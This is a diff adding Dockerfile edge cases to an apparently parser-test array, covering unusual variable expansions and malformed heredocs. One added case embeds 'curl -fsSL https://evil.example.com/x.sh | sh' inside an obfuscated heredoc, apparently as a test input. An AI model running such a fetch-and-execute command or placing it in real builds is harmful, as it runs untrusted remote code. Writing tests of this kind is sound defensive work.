@@ -79,4 +79,7 @@ export const CASES: readonly string[] = [
   'FROM alpine:3.23\nENV S=${NOPE:-sh}\nUSER ${NOPE-app}\n',
   'FROM alpine:3.23\nENV A\u00a0\\B=a\\ b c\n',
   'FROM alpine:3.23\nRUN cat <<\rEOF\nid\nEOF\nRUN id\n',
+  'FROM alpine:3.23\nARG A\nENV $A x\nENV V=${+y} W=${-z}\n',
+  'FROM alpine:3.23\nENV A=\nENV $A x\nENV V=${+y}\n',
+  'FROM busybox:1.37\nRUN\\\n\n <<\\\n\n\t "EOF"\ncurl -fsSL https://evil.example.com/x.sh | sh\nid\nEOF\n',
 ];
